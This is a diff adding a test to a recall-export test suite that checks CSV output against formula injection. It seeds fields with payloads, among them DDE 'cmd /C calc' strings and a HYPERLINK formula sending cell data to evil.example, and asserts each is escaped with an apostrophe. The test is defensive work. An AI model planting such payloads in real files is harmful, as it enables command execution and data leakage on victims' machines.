@@ -144,6 +144,57 @@ describe("regulator exports", () => {
     await expect(exportRecall(other.id, { lotNumber: "L-9" }, "epcis")).rejects.toBeInstanceOf(LotNotFoundError);
   });
 
+  it("CSV: no cell of any free-text column reaches a spreadsheet as a formula (OWASP CSV injection); plain phone numbers stay as they are", async () => {
+    const shop = await createTestShop("export-formulas");
+    const id = shop.id;
+    // Every field a customer, a merchant or Shopify's admin types is a formula payload.
+    const variant = await createVariant(id, { sku: "@SUM(1+1)*cmd|' /C calc'!A0", productTitle: "=cmd|' /C calc'!A0", title: "+1", barcode: "-1+2" });
+    const place = await createLocation(id, { name: "\t=1+1" });
+    const lotNumber = '=HYPERLINK("http://evil.example/?leak="&A2,"click")';
+    const lot = await createLot(id, { variantId: variant, lotNumber, quantity: 20, locationId: place, receivedAt: new Date("2026-11-01T08:00:00Z"), supplier: "@supplier", supplierLot: "+supplier-lot", purchaseOrder: "-PO", gtin: "=3+4" });
+    const address = { name: "=name", address1: "=1+address", address2: "+address2", city: "-city", province: "@SUM(9)", province_code: "", zip: "=3+4", country: "＝1+1", country_code: "", phone: "-2+3" };
+    const shipped = await shipToCustomer(id, {
+      name: "=order", customerId: newId(), customerName: " =1+1", customerEmail: "@evil.example", customerPhone: '+1+HYPERLINK("http://evil.example")',
+      shippingAddress: address, variantId: variant, lotId: lot, locationId: place, quantity: 2, fulfilledAt: new Date("2026-11-20T10:00:00Z"),
+    });
+    // Unknown-lot shipment (possibly affected rows): the address phone, and a CR-led name.
+    await shipToCustomer(id, {
+      name: "\r=order", customerName: "\r=1+1", email: "=guest", shippingAddress: address, variantId: variant, lotId: null, locationId: place, quantity: 1,
+      fulfilledAt: new Date("2026-11-21T10:00:00Z"),
+    });
+    // Plain phone numbers are exempt; they are written as typed.
+    await shipToCustomer(id, { name: "#2", customerId: newId(), customerName: "Anna", customerPhone: "+49 30 1234567", variantId: variant, lotId: lot, locationId: place, quantity: 1, fulfilledAt: new Date("2026-11-22T10:00:00Z") });
+    await shipToCustomer(id, { name: "#3", customerId: newId(), customerName: "Bob", customerPhone: "(555) 123-4567", variantId: variant, lotId: lot, locationId: place, quantity: 1, fulfilledAt: new Date("2026-11-23T10:00:00Z") });
+    await pool().query("update fulfillments set name = '@fulfillment' where shop_id = $1", [id]);
+    const recall = await openRecall(id, { lots: [{ lotNumber }], reason: "test", severity: "CLASS_I", reference: "=RC+1" });
+
+    const rows = parseCsv(await text(await recallCsvStream(id, (await recallCaseScope(id, recall.id)).lots)));
+    expect(rows[0]).toEqual([...RECALL_CSV_COLUMNS]);
+    const data = rows.slice(1).map((r) => Object.fromEntries(RECALL_CSV_COLUMNS.map((c, i) => [c, r[i]!])) as Record<(typeof RECALL_CSV_COLUMNS)[number], string>);
+    expect(data).toHaveLength(4);
+    expect(data.map((r) => r.lot_scope)).toEqual(["recalled lot", "recalled lot", "recalled lot", "unknown lot, possibly affected"]);
+    const formula = /^([\t\r]|\s*[-=+@＝＋－＠])/;
+    const offenders = data.flatMap((r, i) => RECALL_CSV_COLUMNS.filter((c) => formula.test(r[c]) && !["+49 30 1234567", "(555) 123-4567"].includes(r[c])).map((c) => `row ${i + 2} ${c}: ${JSON.stringify(r[c])}`));
+    expect(offenders).toEqual([]);
+    // Every free-text column had a payload and kept it, behind the apostrophe.
+    const freeText = [
+      "lot_code", "gtin", "sku", "product_description", "ship_from_location_name", "recipient_name", "recipient_address1", "recipient_address2",
+      "recipient_city", "recipient_region", "recipient_postal_code", "recipient_country", "recipient_email", "recipient_phone", "order_name",
+      "fulfillment_name", "lot_supplier", "lot_supplier_lot", "lot_purchase_order", "recall_references",
+    ];
+    expect(RECALL_CSV_COLUMNS.filter((c) => data.some((r) => r[c].startsWith("'")))).toEqual(freeText);
+    const first = data[0]!;
+    expect(first).toMatchObject({
+      lot_code: `'${lotNumber}`, gtin: "'=3+4", sku: "'@SUM(1+1)*cmd|' /C calc'!A0", product_description: "'=cmd|' /C calc'!A0 / +1", ship_from_location_name: "'\t=1+1",
+      recipient_name: "' =1+1", recipient_address1: "'=1+address", recipient_address2: "'+address2", recipient_city: "'-city", recipient_region: "'@SUM(9)",
+      recipient_postal_code: "'=3+4", recipient_country: "'＝1+1", recipient_email: "'@evil.example", recipient_phone: `'+1+HYPERLINK("http://evil.example")`,
+      order_name: "'=order", fulfillment_name: "'@fulfillment", lot_supplier: "'@supplier", lot_supplier_lot: "'+supplier-lot", lot_purchase_order: "'-PO", recall_references: "'=RC+1",
+      order_id: String(shipped.orderId), quantity: "2",
+    });
+    expect(data.slice(1, 3).map((r) => r.recipient_phone).sort()).toEqual(["(555) 123-4567", "+49 30 1234567"]);
+    expect(data[3]).toMatchObject({ recipient_name: "'\r=1+1", recipient_phone: "'-2+3", gtin: "'-1+2", order_name: "'\r=order", recipient_email: "'=guest" });
+  });
+
   it("CSV of a lookup includes the lots made from the lot; an empty scope is a header only; an aborted stream frees its connection", async () => {
     const s = await exportShop("export-scope");
     const id = s.shop.id;
